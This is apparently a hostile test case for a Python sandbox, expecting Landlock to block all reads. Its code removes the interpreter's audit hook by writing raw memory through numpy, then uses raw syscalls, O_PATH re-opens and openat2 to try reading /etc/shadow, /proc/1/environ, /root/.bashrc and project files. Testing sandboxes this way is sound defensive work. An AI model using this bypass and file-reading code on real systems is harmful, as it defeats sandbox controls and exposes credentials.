# tries: reaches around the audit hook (numpy raw memory clears the hook list), then reads with
#        raw system calls: /etc/shadow, /etc/passwd, /proc/1/environ (the zygote), /proc/1/root,
#        the data file, the project, /root; O_PATH handles re-opened through /proc/self/fd;
#        openat2; and encodes any byte it gets into the signals.
# must record: Landlock refuses every read (no event: the hook is gone), so every signal is 0.
# expect-status: ok
# expect-signal-sum: 0
# --- reach-around: unhook the C audit hook with numpy raw memory, then ctypes is free ---------
import struct, numpy as _np
def _mem(addr, n=1, t='<u8'):
    class _I: pass
    o = _I(); o.__array_interface__ = {'shape': (n,), 'typestr': t, 'data': (addr, False), 'version': 3}
    return _np.asarray(o)
def _dynsyms(path, want):
    b = open(path, 'rb').read()
    shoff, = struct.unpack_from('<Q', b, 0x28); shentsize, shnum = struct.unpack_from('<HH', b, 0x3a)
    secs = [struct.unpack_from('<IIQQQQIIQQ', b, shoff + i * shentsize) for i in range(shnum)]
    out = {}
    for s in secs:
        if s[1] != 11:  # SHT_DYNSYM
            continue
        strtab = secs[s[6]]
        for off in range(s[4], s[4] + s[5], 24):
            name_i, info, other, shndx, value, size = struct.unpack_from('<IBBHQQ', b, off)
            end = b.index(b'\0', strtab[4] + name_i)
            nm = b[strtab[4] + name_i:end].decode()
            if nm in want:
                out[nm] = value
    return out
def unhook():
    s = _dynsyms('/usr/lib/x86_64-linux-gnu/libpython3.11.so.1.0', {'_PyRuntime', 'PyLong_Type'})
    base = id(int) - s['PyLong_Type']
    _mem(base + s['_PyRuntime'] + 656)[0] = 0   # _PyRuntime.audit_hook_head = NULL (3.11)
def libc():
    unhook()
    import ctypes
    c = ctypes.CDLL(None, use_errno=True)
    c.syscall.restype = ctypes.c_long
    return ctypes, c
# ----------------------------------------------------------------------------------------------
import os
PROJECT = "@PROJECT@"  # tests/e2e/31-hostile.sh fills in the checkout's absolute path
def signals(df):
    ctypes, c = libc()
    buf = ctypes.create_string_buffer(4096)
    got = 0
    paths = [b"/etc/shadow", b"/etc/passwd", b"/proc/1/environ", b"/proc/1/root/etc/passwd",
             b"/proc/self/root/etc/passwd", b"/proc/1/cmdline", b"/proc/1/maps",
             (PROJECT + "/data/ohlcv.csv").encode(), (PROJECT + "/Makefile").encode(), b"/root/.bashrc",
             b"/proc/sys/kernel/hostname", b"/sys/class/net/lo/address"]
    for p in paths:
        fd = c.syscall(2, p, 0)  # open O_RDONLY
        if fd >= 0:
            got += max(0, c.read(fd, buf, 4096))
        o = c.syscall(2, p, 0o10000000)  # O_PATH: Landlock does not check it ...
        if o >= 0:
            fd = c.syscall(2, ("/proc/self/fd/%d" % o).encode(), 0)  # ... but the re-open is
            if fd >= 0:
                got += max(0, c.read(fd, buf, 4096))
        how = ctypes.create_string_buffer(24)
        fd = c.syscall(437, -100, p, how, 24)  # openat2
        if fd >= 0:
            got += max(0, c.read(fd, buf, 4096))
    print("bytes read", got)
    return [1 if got else 0] * len(df)
